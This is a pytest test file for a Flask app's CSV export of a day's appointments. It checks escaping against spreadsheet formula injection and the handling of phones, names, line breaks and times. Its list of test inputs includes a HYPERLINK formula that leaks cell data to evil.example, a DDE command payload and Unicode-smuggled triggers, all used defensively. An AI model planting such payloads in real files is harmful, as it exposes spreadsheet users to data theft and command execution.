"""The CSV file, read back as spreadsheets read it."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

import pytest
from flask import Flask

from core.spreadsheet_cells import BYTE_ORDER_MARK, safe_cell
from tests.conftest import NOW
from tests.web.site.rows import make_row
from web.labels import ContactLine
from web.site.day_csv import day_csv

pytestmark = pytest.mark.databases("sqlite")

LONDON = ZoneInfo("Europe/London")
TRIGGERS = "=+-@＝＋－＠"
ATTACKS = [
    "=1+1",
    "+44 7700 900123",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "harmless;=1+1",
    'harmless"; =1+1',
    'harmless,"=1+1',
    "first line\n=1+1",
    "first line\u2028=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
]


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_begins_like_a_formula_however_the_file_is_split(app: Flask, delimiter: str) -> None:
    """A comma is what the file says; Excel in much of Europe splits at semicolons, and a careless import at tabs."""
    for attack in ATTACKS:
        with app.test_request_context():
            text = day_csv(NOW.date(), [make_row(name=attack, notes=attack, representative=attack)], LONDON)
        for line in csv.reader(io.StringIO(text.removeprefix(BYTE_ORDER_MARK)), delimiter=delimiter):
            for cell in line:
                starts_safely = not cell.strip(" \"'\t").startswith(tuple(TRIGGERS))
                assert starts_safely or cell.lstrip(' "').startswith("'"), (attack, cell)


def test_what_was_written_can_still_be_read(app: Flask) -> None:
    for attack in ATTACKS[:4]:
        with app.test_request_context():
            text = day_csv(NOW.date(), [make_row(name=attack)], LONDON)
        (row,) = list(csv.DictReader(io.StringIO(text.removeprefix(BYTE_ORDER_MARK))))
        assert row["Name"] == f"'{attack}"


def test_ordinary_words_stay_as_they_are(app: Flask) -> None:
    names = ["Zoë Ångström", "O'Neill, Sinéad", "王小明", 'Robert "Bobby" Tables', "Anne-Marie"]
    with app.test_request_context():
        text = day_csv(NOW.date(), [make_row(name=name) for name in names], LONDON)
    assert [row["Name"] for row in csv.DictReader(io.StringIO(text.removeprefix(BYTE_ORDER_MARK)))] == names


@pytest.mark.parametrize(
    "note",
    [
        "late, -10 minutes; +1 guest",
        "rooms 1;-2",
        "5 - 3, +44 7700 900123",
        "discount;-10%",
        "10 o'clock, @ the desk",
    ],
)
def test_ordinary_notes_stay_as_they_are(note: str) -> None:
    assert safe_cell(note) == note


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        ("07700900123", "07700 900123"),
        ("+447700900123", "07700 900123"),
        ("02079460000", "020 7946 0000"),
        ("+33123456789", "00 33 1 23 45 67 89"),
        ("116123", "116 123"),
        ("02079460000 ext 12", "020 7946 0000 x12"),
        ("", ""),
    ],
)
def test_a_telephone_number_stays_one_in_a_spreadsheet(app: Flask, typed: str, kept: str) -> None:
    with app.test_request_context():
        text = day_csv(NOW.date(), [make_row(phone=ContactLine(typed), reference="23456E78")], LONDON)
    (row,) = csv.DictReader(io.StringIO(text.removeprefix(BYTE_ORDER_MARK)))
    assert row["Phone"] == kept
    assert row["Reference"] == "K7PM 4QX2"  # in two groups: 23456E78 would be a number to the power of ten


def test_every_appointment_is_one_line() -> None:
    assert safe_cell("Comes late.\r\n\r\nRings first.\x00") == "Comes late. / Rings first."


def test_the_file_says_that_it_is_utf_8_and_quotes_every_cell(app: Flask) -> None:
    with app.test_request_context():
        text = day_csv(NOW.date(), [make_row()], LONDON)
    assert text.startswith('\ufeff"Date","Starts"')
    assert text.endswith('"\r\n')


def test_times_are_those_of_the_site_as_spreadsheets_sort_them(app: Flask) -> None:
    hours = [(8, 0), (11, 5), (12, 30)]
    rows = [
        make_row(starts_at=datetime(2026, 7, 1, hour, minute, tzinfo=UTC), ends_at=datetime(2026, 7, 1, 15, tzinfo=UTC))
        for hour, minute in hours
    ]
    with app.test_request_context():
        text = day_csv(rows[0].starts_at.date(), rows, LONDON)
    read = list(csv.DictReader(io.StringIO(text.removeprefix(BYTE_ORDER_MARK))))
    assert [row["Starts"] for row in read] == ["09:00", "12:05", "13:30"]
    assert {row["Ends"] for row in read} == {"16:00"}
